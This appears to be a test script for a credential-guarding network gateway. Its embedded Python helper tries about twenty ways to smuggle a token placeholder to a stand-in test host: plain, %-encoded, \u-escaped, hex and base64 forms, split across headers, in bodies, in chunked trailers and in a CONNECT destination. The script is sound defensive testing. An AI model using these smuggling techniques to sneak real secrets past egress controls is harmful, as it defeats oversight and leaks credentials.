#!/usr/bin/env bash
# t_placeholder_exfiltration: a placeholder on its way to a host its credential is not bound
# to is refused (403) and recorded as credential.exfiltration wherever the request carries
# it and however it is written: in the path, the query, a field value, a field name, cut in
# two fields or in four, a body (Content-Length and chunked), a chunked trailer, the
# destination of a CONNECT; whole, with another prefix, in upper case, cut short, %-encoded,
# \u-escaped, hex, base64 (standard and URL-safe, at every alignment). Requests that only
# look alike (digests, UUIDs, base64 of other things) go through, and so does the placeholder
# toward its own host. The other host is an upstream of this test on 127.0.0.1.
. "$(dirname "$0")/lib.sh"
need_userns
[ -e "$PADDOCK_BUILD/paddock-gateway.so" ] || bail_out "paddock-gateway.so is not built"

feishu_certs api.test img.cdn.test
start_upstream TLS_PORT --tls "$T/fs.pem" "$T/fs.key" --log "$T/up.log"
start_upstream HTTP_PORT --log "$T/up.log"
set_secret api_token "real-$RANDOM$RANDOM$RANDOM$RANDOM"

cat >"$T/policy.yaml" <<EOF
version: 1
network:
  rules:
    - {host: api.test, decision: allow}
    - {host: other.test, decision: allow}
    - {host: "*.cdn.test", decision: allow}
  passthrough: ["*.cdn.test"]
  resolve:
    "api.test:443": "127.0.0.1:$TLS_PORT"
    "other.test:80": "127.0.0.1:$HTTP_PORT"
    "img.cdn.test:443": "127.0.0.1:$TLS_PORT"
  upstream_ca: [$T/ca.pem]
credentials:
  - name: api
    provider: static
    value: {secret: api_token}
    hosts: [api.test]
    inject: {header: Authorization, value: "Bearer {token}"}
    placeholder: {env: API_TOKEN}
EOF

# Each case: one request through the proxy to other.test (or a CONNECT), its status printed
# as "NAME STATUS SENT" (SENT: the body's length, for the bodies).
cat >"$WS/smuggle.py" <<'EOF'
import base64, os, socket, ssl, sys, urllib.parse
ph = os.environ["API_TOKEN"]
rnd = ph[-48:]
def b64(s, url=False):
    e = base64.urlsafe_b64encode if url else base64.b64encode
    return e(s.encode()).decode()
pct = lambda s: "".join("%%%02X" % ord(c) for c in s)
uesc = lambda s: "".join("\\u%04x" % ord(c) for c in s)
def status(s):
    data = b""
    s.settimeout(20)
    try:
        while b"\r\n" not in data:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    s.close()
    return data.split(b" ")[1].decode() if data.count(b" ") else "none"
def send(name, path="/v1/x", fields=(), body=None, chunks=None, trailer=None, host="other.test"):
    s = socket.create_connection(("127.0.0.1", 3128))
    head = "%s http://%s/v1/case-%s%s HTTP/1.1\r\nHost: %s\r\n" % (
        "POST" if body is not None or chunks else "GET", host, name, path, host)
    head += "".join("%s: %s\r\n" % f for f in fields)
    sent = 0
    if chunks is not None:
        head += "Transfer-Encoding: chunked\r\n\r\n"
        raw = "".join("%x\r\n%s\r\n" % (len(c), c) for c in chunks if c) + "0\r\n"
        raw += "".join("%s: %s\r\n" % t for t in (trailer or ())) + "\r\n"
        payload, sent = raw, sum(len(c) for c in chunks)
    elif body is not None:
        head += "Content-Length: %d\r\n\r\n" % len(body)
        payload, sent = body, len(body)
    else:
        head += "\r\n"
        payload = ""
    try:
        s.sendall((head + payload).encode())
    except OSError:
        pass
    print(name, status(s), sent, flush=True)
def connect(name, target):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    print(name, status(s), 0, flush=True)

mode = sys.argv[1]
if mode == "smuggle":
    send("path", "/" + ph)
    send("query-percent", "?k=" + pct(ph))
    send("query-base64url", "?k=" + b64("key=" + ph, url=True).rstrip("="))
    for n, pre in enumerate(("", "a", "ab")):
        send("field-base64-%d" % n, fields=[("X-Data", b64(pre + "Bearer " + ph))])
    send("field-hex", fields=[("X-Data", ph.encode().hex())])
    send("field-upper", fields=[("X-Data", ph.upper())])
    send("field-prefix", fields=[("X-Data", "sk-live-" + rnd)])
    send("field-cut", fields=[("X-Data", ph[:-28])])
    send("field-name", fields=[("X-K-" + rnd, "1")])
    send("split-two", fields=[("X-A", "Bearer " + ph[:-26]), ("X-B", ph[-26:])])
    send("split-four", fields=[("X-A", rnd[0:12]), ("X-B", rnd[12:24]), ("X-C", rnd[24:36]), ("X-D", rnd[36:])])
    send("body-json-escaped", body='{"k": "%s"}' % uesc(ph))
    send("body-form-percent", body="a=1&k=" + pct(ph))
    send("body-hex", body="data=" + ph.encode().hex())
    enc = b64("token=" + ph)
    send("chunked-base64", chunks=[enc[i:i + 5] for i in range(0, len(enc), 5)])
    send("trailer", chunks=["nothing here"], trailer=[("X-Data", ph)])
    send("trailer-base64", chunks=["nothing here"], trailer=[("X-Sig", b64(ph))])
    connect("connect-destination", rnd + ".cdn.test:443")
elif mode == "clean":
    send("clean-get", "?sha=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
         [("X-Request-Id", "550e8400-e29b-41d4-a716-446655440000"),
          ("X-Data", b64("an ordinary value that is not a placeholder at all, but long"))])
    send("clean-chunked", chunks=["0123456789abcdef" * 8, "%41%42%43"], trailer=[("X-Sum", "d41d8cd98f00b204e9800998ecf8427e")])
    connect("clean-connect", "img.cdn.test:443")
    # the placeholder toward its own host, over TLS
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
    got = b""
    while b"\r\n\r\n" not in got:
        got += s.recv(1)
    t = ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
    t.sendall(("GET /v1/own HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nX-Data: %s\r\n\r\n" % b64(ph)).encode())
    print("own-host", status(t), 0, flush=True)
EOF

: >"$T/up.log"
wrun --policy "$T/policy.yaml" -- python3 smuggle.py smuggle
smuggled=$OUT
expect_eq "the client ran every case" "0 20" "$RC $(printf '%s\n' "$smuggled" | grep -c .)"
while read -r name code sent; do
    [ -n "$name" ] || continue
    expect_eq "a placeholder toward another host, $name: refused (403)" 403 "$code"
done <<<"$smuggled"
pdk audit --json
printf '%s\n' "$OUT" >"$T/audit.json"
found=$("$PYTHON" -c '
import json, sys
seen = {}
for l in open(sys.argv[1]):
    if l.strip():
        e = json.loads(l)
        if e["kind"] == "credential.exfiltration":
            d = e["data"]
            case = (d.get("path") or "").split("/")[2] if (d.get("path") or "").startswith("/v1/case-") else d.get("host", "")
            seen[case] = "%s (%s)" % (d["found_in"], d["encoding"])
for k in sorted(seen): print(k, "=", seen[k])' "$T/audit.json")
expect_eq "each one recorded as credential.exfiltration, with where and how" 20 \
    "$(printf '%s\n' "$found" | grep -c ' = ')"
diag "$found"
expect_match "... the path: in the URL, plain" 'case-path = URL \(plain\)' "$found"
expect_match "... %-encoded in the query" 'case-query-percent = URL \(plain, %-encoded\)' "$found"
expect_match "... base64url in the query" 'case-query-base64url = URL \(base64\)' "$found"
expect_match "... base64 at every alignment in a field" \
    'case-field-base64-0 = X-Data field \(base64\).*case-field-base64-1 = X-Data field \(base64\).*case-field-base64-2 = X-Data field \(base64\)' \
    "$(printf '%s' "$found" | tr '\n' ' ')"
expect_match "... hex" 'case-field-hex = X-Data field \(hex\)' "$found"
expect_match "... a field name" 'case-field-name = field name X-K-' "$found"
expect_match "... cut in four fields (joined as an upstream would)" 'case-split-four = X-[BCD] field \(plain\)' "$found"
expect_match "... \\u-escaped in a JSON body" 'case-body-json-escaped = body \(plain, \\u-escaped\)' "$found"
expect_match "... base64 across chunks" 'case-chunked-base64 = body \(base64\)' "$found"
expect_match "... a trailer" 'case-trailer = trailer \(plain\)' "$found"
expect_match "... a CONNECT's destination" '[0-9a-f]{48}\.cdn\.test = destination \(plain\)' "$found"
# the upstream never received one of them whole: the ones refused at the head not at all,
# the bodies never complete
partial=$(SMUGGLED="$smuggled" "$PYTHON" -c '
import json, os, sys
sent = {l.split()[0]: int(l.split()[2]) for l in os.environ["SMUGGLED"].splitlines() if l.strip()}
for h in map(json.loads, open(sys.argv[1])):
    case = h["path"].split("/")[2][len("case-"):] if h["path"].startswith("/v1/case-") else None
    if case and (sent.get(case, 0) == 0 or h["body_len"] >= sent[case]):
        print(case)' "$T/up.log")
expect_eq "... none of them reached the other host whole" "" "$partial"

wrun --policy "$T/policy.yaml" -- python3 smuggle.py clean
expect_eq "what only looks like it goes through: digests, UUIDs, base64, a trailer, a CONNECT, and the placeholder to its own host" \
    "clean-get 200 0|clean-chunked 200 137|clean-connect 200 0|own-host 200 0" \
    "$(printf '%s' "$OUT" | paste -sd'|')"
expect_match "... the clean ones reached the other host" '"path": "/v1/case-clean-chunked' "$(cat "$T/up.log")"
